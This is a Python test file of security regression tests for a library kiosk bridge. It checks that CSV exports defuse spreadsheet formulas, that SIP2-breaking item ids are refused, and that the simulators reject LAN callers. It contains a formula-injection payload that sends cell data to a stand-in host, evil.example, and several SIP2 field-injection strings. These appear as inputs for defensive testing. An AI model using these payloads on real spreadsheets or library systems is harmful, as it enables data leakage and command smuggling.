"""The smaller findings of the second security round, each written as the attack: a formula typed
at the kiosk reaching a staff spreadsheet, item ids that break SIP2 arriving from the hub or the
tags API, the simulators driven from the LAN, and a month of year 1."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from bridge.app import create_app
from bridge.db.models import ReplayLine
from bridge.replay_report import as_csv
from station_core.spreadsheet import safe_cell
from tests.conftest import free_port, station_profile
from tests.security.test_attacks import PASSWORD, from_address

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_formula_typed_at_the_kiosk_is_text_in_the_replay_report() -> None:
    line = ReplayLine(run_id=1, txn_id="t", kind="checkin", item_id=FORMULA, title="@SUM(A1)",
                      done_at=datetime.now(UTC), result="refused", message="-2+3")
    rows = list(csv.DictReader(io.StringIO(as_csv([line]))))
    assert rows[0]["item_id"] == "'" + FORMULA  # a spreadsheet shows it, never runs it
    assert rows[0]["title"].startswith("'") and rows[0]["message"].startswith("'")
    assert [safe_cell(v) for v in (12, -3, "plain", "\tTAB")] == [12, -3, "plain", "'\tTAB"]


@pytest.fixture
def staff_client(tmp_path: Path):
    app = create_app(station_profile(tmp_path, ils_port=free_port()))
    with TestClient(app) as client:
        app.state.station.auth.create_user("admin1", PASSWORD, "admin")
        csrf = client.post("/api/v1/staff/login", json={"username": "admin1",
                                                         "password": PASSWORD}).json()["csrf_token"]
        yield client, app.state.station, {"X-CSRF-Token": csrf}


def test_item_ids_that_would_break_sip2_are_refused_before_the_ils(staff_client) -> None:
    client, station, _csrf = staff_client
    for bad in ("3100%7CAOX", "3100%0DAO", "3" * 80):
        assert client.get(f"/api/v1/staff/tags/items/{bad}").status_code == 422, bad
    from bridge.fleet_commands import handlers

    load = handlers(station)["load_hold"]
    for bad in ("3100\nAOevil", "31\x0000", "31|AO"):
        with pytest.raises(ValueError):
            asyncio.run(load({"item_id": bad}, "hub:desk1"))


def test_the_monthly_report_of_year_one_is_a_clear_refusal(staff_client) -> None:
    client, _station, _csrf = staff_client
    assert client.get("/console/reports/monthly.csv?month=0001-01").status_code == 422
    assert client.get("/console/reports/monthly.csv?month=2026-11").status_code == 200


def test_the_simulators_answer_this_machine_only(staff_client) -> None:
    client, _station, _csrf = staff_client
    assert client.post("/sim/boards/A/doors/1", json={"action": "close"}).status_code == 200
    lan = from_address(client, "10.0.4.1")
    assert lan.post("/sim/boards/A/doors/1", json={"action": "open"}).status_code == 403
